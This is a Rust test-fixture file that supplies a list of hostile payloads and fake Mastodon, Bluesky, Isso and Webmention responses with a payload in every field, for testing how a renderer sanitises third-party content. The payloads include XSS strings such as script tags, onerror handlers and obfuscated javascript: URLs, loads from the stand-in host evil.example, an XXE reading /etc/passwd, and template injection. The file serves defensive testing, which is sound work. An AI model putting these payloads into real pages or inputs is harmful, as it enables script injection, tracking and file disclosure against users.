//! Hostile content, and what places send when a stranger puts it everywhere: for the tests of the core, and those in browsers.
//! Only data; the tests say what must become of it.

use serde_json::{Value, json};

/// Payloads for names, bodies, links, pictures and shortcodes, each like one that has got through somewhere.
pub(crate) const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/p.png 2x'>",
    "<img src=javascript:alert(1)>",
    "<picture><source srcset=https://evil.example/p.webp></picture>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><image href='https://evil.example/p.svg'></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/v.mp4 autoplay onplay=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href='\u{2028}javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='/wp-admin/user-new.php?role=administrator'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='https://blog.example@evil.example/'>x</a>",
    "<a href='https:evil'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<a href='https://ok.example' target=_top download ping=https://evil.example>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "\"><script>alert(1)</script>",
    "'onmouseover='alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{feff}javascript:alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "http://evil.example/pixel.gif",
    "//evil.example/pixel.gif",
    "https://user:pass@evil.example/",
    "https://evil.example\u{2215}films.example/",
    "\u{202e}gnp.elif",
    "\u{200b}\u{2066}hidden\u{2069}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "]]>&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'>",
    "\0\u{1}\u{1b}[31m",
    "a\u{300}\u{300}\u{300}\u{300}\u{300}\u{300}\u{300}\u{300}",
    ":evil: :../../x: :\"onload=alert(1):",
];

/// A status of Mastodon's.
pub(crate) fn status(id: &str, payload: &str) -> Value {
    let emojis = json!([{"shortcode": payload, "static_url": payload}, {"shortcode": "evil"}]);
    let account = json!({"acct": payload, "display_name": payload, "url": payload, "avatar_static": payload, "emojis": emojis});
    json!({"id": id, "content": payload, "spoiler_text": payload, "url": payload, "uri": payload, "language": payload, "account": account, "created_at": payload,
        "media_attachments": [{"url": payload, "description": payload, "type": payload}]})
}

/// A post of Bluesky's.
pub(crate) fn post(payload: &str) -> Value {
    let author = json!({"did": payload, "handle": payload, "displayName": payload, "avatar": payload, "labels": [{"val": payload}]});
    let facet = |feature: Value| json!({"index": {"byteStart": 0, "byteEnd": 1}, "features": [feature]});
    let facets = json!([facet(json!({"uri": payload})), facet(json!({"tag": payload})), facet(json!({"did": payload}))]);
    json!({"uri": payload, "author": author, "record": {"text": payload, "facets": facets, "langs": [payload], "createdAt": payload},
        "embed": {"images": [{"fullsize": payload, "alt": payload}], "external": {"uri": payload, "title": payload}}, "labels": [{"val": payload}]})
}

/// A comment of Isso's.
pub(crate) fn comment(id: u32, payload: &str) -> Value {
    json!({"id": id, "parent": null, "text": payload, "author": payload, "website": payload, "hash": payload, "mode": 1, "created": payload,
        "likes": payload, "dislikes": payload, "gravatar_image": payload, "replies": []})
}

/// Mentions as Webmention.io returns them, in both formats.
pub(crate) fn mentions(payload: &str) -> Vec<Value> {
    let card = json!({"name": payload, "photo": payload, "url": payload});
    // Each is a page of its own: two mentions from the same page count as one.
    let page: u64 = payload.bytes().fold(0, |sum, byte| (sum * 31 + u64::from(byte)) % 1_000_000_007);
    let entry = |content: Value, property: &str| json!({"author": card, "url": payload, "wm-source": format!("https://a.example/{page}/{}", content.to_string().len() + property.len() * 100_000), "wm-id": payload, "wm-property": property, "in-reply-to": payload, "content": content, "name": payload, "published": payload});
    vec![
        entry(json!({"html": payload, "text": payload}), "in-reply-to"),
        entry(json!({"content-type": "text/html", "value": payload}), "mention-of"),
        entry(json!({"value": payload}), payload),
        entry(json!(payload), "mention-of"),
        entry(json!(null), "like-of"),
        entry(json!(null), "repost-of"),
    ]
}
